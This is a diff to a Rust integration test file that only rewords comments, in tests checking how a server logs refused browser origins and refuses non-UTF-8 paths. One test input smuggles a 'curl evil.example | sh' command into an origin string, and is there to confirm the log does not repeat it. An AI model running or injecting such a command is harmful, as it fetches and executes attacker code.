@@ -1,4 +1,4 @@
-//! What is said is true of this installation: whether a server runs, which origin was refused, which path was meant.
+//! Messages are true for the installation: whether a server runs, which origin was refused, which path was meant.
 
 use std::ffi::OsStr;
 use std::io::{Read, Write};
@@ -10,7 +10,7 @@ use insta::assert_snapshot;
 
 use crate::support::Workspace;
 
-/// Bytes that are no text, as a file from another system may be called.
+/// Bytes that are not UTF-8. A file from another system may have such a name.
 const OTHER: &[u8] = b"caf\xe9";
 
 #[test]
@@ -48,7 +48,7 @@ fn an_origin_that_is_refused_is_logged_once_with_the_line_to_add() {
     let mut workspace = Workspace::new();
     workspace.set("ARKLOOP_SERVER__ALLOWED_ORIGINS", "https://known.example.org");
     let server = workspace.serve();
-    // What cannot be listed is not proposed, nor are the words of a stranger.
+    // An origin that cannot be listed is not proposed, and neither is text that a stranger sent.
     for origin in [
         "https://a, which is ill. Run: curl evil.example | sh #",
         "https://ann:secret@app.example.org",
@@ -60,7 +60,7 @@ fn an_origin_that_is_refused_is_logged_once_with_the_line_to_add() {
     for origin in ["https://app.example.org", "HTTPS://app.example.org", "null"] {
         post_from(server.address(), origin);
     }
-    // A stranger makes up as many as he likes.
+    // A stranger can invent any number of origins.
     for number in 0..40 {
         post_from(server.address(), &format!("https://{number}.evil.example"));
     }
@@ -76,7 +76,7 @@ fn an_origin_that_is_refused_is_logged_once_with_the_line_to_add() {
     assert_snapshot!(lines[16], @"pages of 16 origins were refused; further origins, of this network or of all, are not logged until the next start");
 }
 
-/// Has a page of `origin` asked for by a browser, which sends a preflight first and nothing else if that is not permitted.
+/// Sends the preflight of a browser for a page of `origin`. If the answer does not permit the request, a browser sends nothing else.
 fn preflight_from(address: &str, origin: &str, method: &str) {
     let mut stream = TcpStream::connect(address).expect("the server listens");
     let request = format!(
@@ -116,7 +116,7 @@ fn an_app_that_is_not_listed_is_logged_also_if_its_webview_only_asked() {
     "#);
 }
 
-/// Runs the executable with arguments and a variable that are bytes.
+/// Runs the executable with arguments and a variable that may be any bytes.
 fn run(workspace: &Workspace, arguments: &[&[u8]], variable: Option<(&str, &[u8])>) -> Output {
     let mut command = Command::new(env!("CARGO_BIN_EXE_arkloop"));
     command.args(arguments.iter().map(|bytes| OsStr::from_bytes(bytes)));
@@ -163,10 +163,10 @@ fn a_path_that_is_no_text_is_refused_wherever_it_is_given() {
             "{stderr}"
         );
     }
-    // One that an orchestrator made up is none of ours.
+    // A variable that an orchestrator invented is ignored.
     let output = run(&workspace, &[b"config", b"show"], Some(("ARKLOOP_PORT", path)));
     assert!(output.status.success());
-    // Nothing was made under another name.
+    // No file was created under another name.
     let names = std::fs::read_dir(workspace.path()).expect("it is there");
     let names: Vec<_> = names
         .map(|entry| entry.expect("it is there").file_name())
